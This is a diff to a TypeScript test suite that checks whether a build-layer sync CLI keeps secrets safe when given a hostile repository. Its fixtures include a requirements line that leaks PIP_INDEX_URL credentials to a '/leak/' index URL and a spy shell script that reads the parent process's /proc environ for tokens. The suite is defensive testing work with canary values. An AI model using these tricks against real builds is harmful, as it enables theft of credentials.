@@ -26,6 +26,8 @@ const CACHE = join(ROOT, ".cache/build");
 const TOOLS = join(ROOT, ".cache/layer-sync");
 const TIMEOUT = 120_000;
 const TOKEN = "idx-s3cr3t-token";
+const SOURCE_TOKEN = "ghp_sourcecanary0123456789";
+const AWS_SECRET = "awssecretcanary0123456789";
 
 let work: string;
 let canary: string;
@@ -145,18 +147,22 @@ describe("layer-sync sync --builder local given a hostile repository", () => {
           `six==1.17.0\n--extra-index-url http://127.0.0.1:${port}/leak/\${PIP_INDEX_URL}/\n`,
         ),
         "layers/evil/requirements.txt": f("six==1.17.0\n./evilpkg\n"),
+        "layers/spy/requirements.txt": f("six==1.17.0\n"),
         "layers/evil/evilpkg/pyproject.toml": f(backend["pyproject.toml"] ?? ""),
         "layers/evil/evilpkg/backend.py": f(backend["backend.py"] ?? ""),
       },
       "hostile folders",
     );
-    gh = await startGitHubEmulator({ repos: [repo], publicRepos: true });
+    gh = await startGitHubEmulator({ repos: [repo], publicRepos: true, tokens: [SOURCE_TOKEN] });
   });
   afterAll(async () => {
     await gh.close();
   });
 
-  function cli(path: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  function cli(
+    path: string,
+    extra: Record<string, string> = {},
+  ): Promise<{ code: number | null; stdout: string; stderr: string }> {
     const env = {
       PATH: process.env.PATH ?? "",
       NODE_EXTRA_CA_CERTS: process.env.NODE_EXTRA_CA_CERTS ?? "",
@@ -164,6 +170,7 @@ describe("layer-sync sync --builder local given a hostile repository", () => {
       XDG_CACHE_HOME: join(ROOT, ".cache"),
       BUILD_PIP_INDEX_URL: "https://pypi.org/simple",
       PIP_INDEX_URL: `https://user:${TOKEN}@example.com/simple`,
+      ...extra,
     };
     const args = ["sync", "--provider", "github", "--repository", "acme/hostile", "--api-url", gh.apiUrl];
     args.push("--path", path, "--builder", "local", "--json", "--out", join(work, "out"));
@@ -206,5 +213,33 @@ describe("layer-sync sync --builder local given a hostile repository", () => {
     expect(r.stderr).toContain("--builder docker");
     expect(existsSync(canary)).toBe(false);
     expect(seen).toEqual([]);
+  });
+
+  it("keeps SOURCE_TOKEN and the AWS secret out of /proc/<pid>/environ of the CLI before any child starts", {
+    timeout: TIMEOUT,
+  }, async () => {
+    // a stand-in for the pinned uv, in a tool cache of its own: it reads its parent's environment as any
+    // child of the same user can, and installs nothing
+    const cache = join(work, "spy-cache");
+    const uv = join(cache, "layer-sync", "uv-0.13.9", "uv");
+    const seenEnviron = join(work, "parent-environ");
+    await mkdir(join(uv, ".."), { recursive: true });
+    await writeFile(
+      uv,
+      `#!/bin/sh\nif [ "$1" = --version ]; then echo "uv 0.13.9"; exit 0; fi\ntr '\\0' '\\n' < /proc/$PPID/environ > ${JSON.stringify(seenEnviron)}\nexit 0\n`,
+      { mode: 0o755 },
+    );
+    const r = await cli("layers/spy", {
+      XDG_CACHE_HOME: cache,
+      SOURCE_TOKEN,
+      AWS_ACCESS_KEY_ID: "AKIACANARY",
+      AWS_SECRET_ACCESS_KEY: AWS_SECRET,
+    });
+    expect(r.stderr).toBe("");
+    expect(r.code).toBe(0);
+    const environ = await readFile(seenEnviron, "utf8");
+    expect(environ).toContain("XDG_CACHE_HOME=");
+    expect(environ).not.toContain(SOURCE_TOKEN);
+    expect(environ).not.toContain(AWS_SECRET);
   });
 });
